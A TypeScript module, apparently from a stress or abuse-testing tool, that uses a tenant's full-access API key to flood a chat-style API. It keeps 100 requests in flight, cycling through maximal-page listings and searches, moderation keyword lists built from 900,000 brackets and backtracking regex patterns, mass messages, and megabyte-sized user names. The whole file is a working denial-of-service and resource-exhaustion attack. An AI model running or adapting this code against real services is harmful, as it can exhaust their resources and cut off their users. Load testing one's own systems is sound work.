import { type Call, flood } from './callers.ts'
import type { Attack, Tally } from './orders.ts'

const inFlight = 100

type Tenant = Extract<Attack, { by: 'tenant' }>

/** A full-access key that asks for the most expensive things there are, as much as it may. */
export async function attackAsTenant(
  origin: string,
  seconds: number,
  { appId, apiKey, guid, uids }: Tenant,
): Promise<Tally> {
  const until = performance.now() + seconds * 1000
  const [owner = ''] = uids
  const patterns = Array.from({ length: 100 }, (_, n) => `a{1,9}.{8}b${n}`).join(',')
  const words = Array.from({ length: 9000 }, (_, n) => `word${n}`).join(',')
  const list = (what: string, category: string, searchTerms: string) => (nth: number) =>
    keywordList(what, { id: `list-${nth}`, name: `List ${nth}`, category, searchTerms })
  const calls: readonly ((nth: number) => Call)[] = [
    () => get('events', '/v3/events?limit=1000'),
    () => get('search', `/v3/messages?searchKey=zzzz&limit=1000`),
    () => get('filter', `/v3/groups/${guid}/messages?hasLinks=true&limit=1000`, owner),
    () => get('users', `/v3/users?page=100&perPage=1000&searchKey=h`),
    list('brackets', 'pattern', '['.repeat(900_000)),
    list('patterns', 'pattern', patterns),
    list('words', 'word', words),
    () =>
      post(
        'many receivers',
        '/v3/messages',
        JSON.stringify({
          multipleReceivers: { uids: uids.slice(1, 26) },
          receiverType: 'user',
          category: 'message',
          type: 'text',
          data: { text: 'x'.repeat(9000) },
        }),
        owner,
      ),
    () =>
      post('large body', '/v3/users', JSON.stringify({ uid: 'u', name: 'n'.repeat(1_000_000) })),
  ]
  return flood(origin, { appid: appId, apikey: apiKey }, inFlight, until, (nth) => {
    const call = calls[nth % calls.length]
    if (!call) throw new Error('There is no such call.')
    return call(nth)
  })
}

export function get(what: string, path: string, onBehalfOf?: string): Call {
  return { what, method: 'GET', path, ...(onBehalfOf && { headers: { onbehalfof: onBehalfOf } }) }
}

export function post(what: string, path: string, body: string, onBehalfOf?: string): Call {
  const headers = onBehalfOf && { headers: { onbehalfof: onBehalfOf } }
  return { what, method: 'POST', path, body, ...headers }
}

const boundary = 'boundary'

function keywordList(what: string, fields: Readonly<Record<string, string>>): Call {
  const parts = Object.entries(fields).map(
    ([name, value]) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  )
  return {
    what,
    method: 'POST',
    path: '/v3/moderation/keywords',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: `${parts.join('')}--${boundary}--\r\n`,
  }
}
